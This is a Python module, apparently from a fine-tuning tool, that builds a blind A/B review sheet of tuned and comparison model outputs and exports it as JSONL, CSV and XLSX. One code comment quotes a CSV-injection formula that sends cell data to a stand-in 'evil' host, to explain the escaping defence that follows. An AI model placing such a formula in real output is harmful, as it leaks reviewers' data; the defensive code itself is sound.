"""The blind sheet: for each sampled test prompt, the tuned output and the other one as "A" and "B".

The order is drawn per row, so neither side is "usually the tuned one", and the key (which side is
which, plus the example id and stratum) lives in its own file, `key.json`, that the review page
never serves. The sheet is written three ways: `sheet.jsonl` (what the review page reads), and CSV
and XLSX with the guide's columns (Input, Output A, Output B, Preference, Note) for reviewers who
would rather fill in a spreadsheet and mail it back; `unblind --import` reads those back.
"""

from __future__ import annotations

import hashlib
import json
import random
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tunesmith.config import CompareConfig
from tunesmith.data.schema import DataError
from tunesmith.runs import (
    COMPARE_DIR,
    EVAL_DIR,
    KEY_FILE,
    SHEET_CSV_FILE,
    SHEET_FILE,
    SHEET_XLSX_FILE,
    VOTES_DIR,
    atomic_open,
    write_json,
    write_jsonl,
)

TUNED, OTHER = "tuned", "other"
SIDES = ("A", "B")
COLUMNS = ["Item", "Input", "Output A", "Output B", "Preference", "Note"]
"""The guide's columns, plus `Item` first: the key that matches a hand-filled row back to the sheet."""
STRATUM_KEYS = ("stratum", "category", "difficulty", "topic")
"""Metadata keys tried, in order, when the stratum key is `auto`."""
EVAL_FILES = {"tuned": "tuned.jsonl", "base": "base.jsonl"}
_DEFAULTS = CompareConfig()


class CompareError(DataError):
    """An input of the compare/report stages is missing or unusable; the message says what to run (exit 2)."""

    def __init__(self, message: str):
        Exception.__init__(self, message)
        self.path, self.row = "", None


@dataclass
class Sheet:
    """What `build_sheet` wrote: where, how many items, and what the tuned model is compared against."""

    dir: Path
    items: int
    against: str  # "base", or the other run's name
    available: int  # examples both sides have an output for
    sheet_id: str  # content hash; every vote records it, so votes for an older sheet are caught


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    rows = []
    with open(path, encoding="utf-8") as f:
        for line_no, line in enumerate(f, 1):
            if not line.strip():
                continue
            try:
                rows.append(json.loads(line))
            except json.JSONDecodeError as e:
                raise CompareError(f"{path}:{line_no}: not valid JSON ({e.msg}); re-run `tunesmith eval`") from None
    return rows


def eval_rows(run_dir: Path, which: str) -> list[dict[str, Any]]:
    path = Path(run_dir) / EVAL_DIR / EVAL_FILES[which]
    if not path.is_file():
        hint = " (with --base), or compare against another run: --against RUN_DIR" if which == "base" else " first"
        raise CompareError(f"{path}: no evaluation outputs; run `tunesmith eval {run_dir}`{hint}")
    return read_jsonl(path)


def render_prompt(prompt: Any) -> str:
    """A prompt as one text: a lone user message as itself, a conversation with role headers."""
    if isinstance(prompt, str):
        return prompt
    messages = [m for m in prompt or [] if isinstance(m, dict)]
    if len(messages) == 1 and messages[0].get("role") == "user":
        return str(messages[0].get("content") or "")
    return "\n\n".join(f"[{m.get('role', '?')}]\n{m.get('content') or ''}" for m in messages)


def stratum_of(row: dict[str, Any], key: str | None) -> str | None:
    meta = row.get("metadata") or {}
    if key is None:
        return None
    if key == "auto":
        for k in STRATUM_KEYS:
            if meta.get(k) not in (None, ""):
                return str(meta[k])
        return None
    value = meta.get(key.removeprefix("metadata."))
    return None if value in (None, "") else str(value)


def build_sheet(
    run_dir: str | Path,
    *,
    against: str | Path = "base",
    n: int = _DEFAULTS.n,
    seed: int = _DEFAULTS.seed,
    stratify_by: str | None = _DEFAULTS.stratify_by,
    force: bool = False,
) -> Sheet:
    """Sample `n` test examples both sides answered and write the blind sheet into RUN_DIR/compare/.

    `against` is `base` (the run's own base-model outputs) or another run directory (its tuned
    outputs, matched by example id). Refuses to replace a sheet that already has votes unless
    `force`, which moves the old votes aside rather than deleting anyone's work."""
    run_dir = Path(run_dir)
    tuned = {str(r["id"]): r for r in eval_rows(run_dir, "tuned")}
    if str(against) == "base":
        label, other = "base", {str(r["id"]): r for r in eval_rows(run_dir, "base")}
    else:
        other_dir = Path(against)
        if not other_dir.is_dir():
            raise CompareError(f"--against {against}: not `base` and not a run directory")
        label, other = other_dir.resolve().name, {str(r["id"]): r for r in eval_rows(other_dir, "tuned")}
    common = sorted(set(tuned) & set(other))
    if not common:
        raise CompareError(
            f"{run_dir}: the tuned outputs and the {label} outputs share no example id; "
            "both must be evaluated on the same split"
        )
    rng = random.Random(seed)
    chosen = rng.sample(common, min(n, len(common)))
    sheet_rows, key_items = [], {}
    for i, example_id in enumerate(chosen, 1):
        item = f"{i:03d}"
        t, o = tuned[example_id], other[example_id]
        tuned_side = rng.choice(SIDES)
        a, b = (t, o) if tuned_side == "A" else (o, t)
        sheet_rows.append(
            {
                "item": item,
                "input": t.get("prompt"),
                "output_a": str(a.get("output") or ""),
                "output_b": str(b.get("output") or ""),
            }
        )
        key_items[item] = {
            "A": TUNED if tuned_side == "A" else OTHER,
            "id": example_id,
            "stratum": stratum_of(t, stratify_by),
        }
    sheet_id = hashlib.sha256(json.dumps(sheet_rows, sort_keys=True).encode()).hexdigest()[:16]

    out = run_dir / COMPARE_DIR
    votes = out / VOTES_DIR
    if votes.is_dir() and any(votes.iterdir()):
        old = _sheet_id(out)
        if old != sheet_id:
            if not force:
                raise CompareError(
                    f"{votes}: reviewers have voted on the current sheet; building a new one would orphan their "
                    "votes. Unblind them first, or pass --force (the old votes and key are moved aside, not deleted)"
                )
            stamp = time.strftime("%Y%m%d-%H%M%S")
            votes.rename(out / f"{VOTES_DIR}.{old}.{stamp}")
            if (out / KEY_FILE).is_file():
                (out / KEY_FILE).rename(out / f"{KEY_FILE}.{old}.{stamp}")
    write_json(
        out / KEY_FILE,
        {"sheet_id": sheet_id, "run": run_dir.resolve().name, "against": label, "seed": seed, "items": key_items},
    )
    write_jsonl(out / SHEET_FILE, ({"sheet_id": sheet_id, **r} for r in sheet_rows))
    table = [[r["item"], render_prompt(r["input"]), r["output_a"], r["output_b"], "", ""] for r in sheet_rows]
    _write_csv(out / SHEET_CSV_FILE, table)
    _write_xlsx(out / SHEET_XLSX_FILE, table)
    return Sheet(out, len(sheet_rows), label, len(common), sheet_id)


def _sheet_id(compare_dir: Path) -> str | None:
    try:
        return json.loads((compare_dir / KEY_FILE).read_text(encoding="utf-8"))["sheet_id"]
    except (OSError, ValueError, KeyError):
        return None


def read_sheet(run_dir: str | Path) -> list[dict[str, Any]]:
    path = Path(run_dir) / COMPARE_DIR / SHEET_FILE
    if not path.is_file():
        raise CompareError(f"{path}: no blind sheet; run `tunesmith compare {run_dir}` first")
    return read_jsonl(path)


def read_key(run_dir: str | Path) -> dict[str, Any]:
    path = Path(run_dir) / COMPARE_DIR / KEY_FILE
    if not path.is_file():
        raise CompareError(f"{path}: the sheet's key is missing; rebuild the sheet with `tunesmith compare {run_dir}`")
    return json.loads(path.read_text(encoding="utf-8"))


# A cell starting with one of these is a formula to a spreadsheet: a model output like
# `=HYPERLINK("http://evil/?"&B2, "click")` would run on the reviewer's machine (CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def defuse(cell: str) -> str:
    """A CSV cell a spreadsheet shows as text: a leading apostrophe (OWASP's advice), which
    `unblind --import` takes off again."""
    return "'" + cell if cell.startswith(FORMULA_START) else cell


def _write_csv(path: Path, table: list[list[str]]) -> None:
    import csv

    # utf-8-sig: Excel reads a BOM-less CSV as the local code page and garbles every non-ASCII answer.
    with atomic_open(path, encoding="utf-8-sig") as f:
        writer = csv.writer(f, lineterminator="\r\n")
        writer.writerow(COLUMNS)
        writer.writerows([[defuse(c) for c in row] for row in table])


# Excel refuses a cell over this many characters; an output that long is cut with a marker.
_XLSX_CELL_MAX = 32_767


def _write_xlsx(path: Path, table: list[list[str]]) -> None:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Alignment, Font
    from openpyxl.worksheet.datavalidation import DataValidation

    wb = Workbook()
    ws = wb.active
    ws.title = "blind review"
    ws.append(COLUMNS)
    for row in table:
        cells = []
        for value in row:
            value = ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters make the file unopenable
            cells.append(value if len(value) <= _XLSX_CELL_MAX else value[: _XLSX_CELL_MAX - 20] + "\n[... cut]")
        ws.append(cells)
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for letter, width in zip("ABCDEF", (6, 60, 60, 60, 12, 30)):
        ws.column_dimensions[letter].width = width
    wrap = Alignment(wrap_text=True, vertical="top")
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            cell.alignment = wrap
            # openpyxl stores a string starting with "=" as a formula; every cell here is text.
            if isinstance(cell.value, str):
                cell.data_type = "s"
    # A drop-down on the Preference column: a typo like "AA" is refused by Excel itself.
    choice = DataValidation(type="list", formula1='"A,B,tie,skip"', allow_blank=True)
    choice.error, choice.errorTitle = "Choose A, B, tie or skip", "Preference"
    ws.add_data_validation(choice)
    choice.add(f"E2:E{len(table) + 1}")
    ws.freeze_panes = "B2"
    with atomic_open(path, "wb", encoding=None) as f:
        wb.save(f)
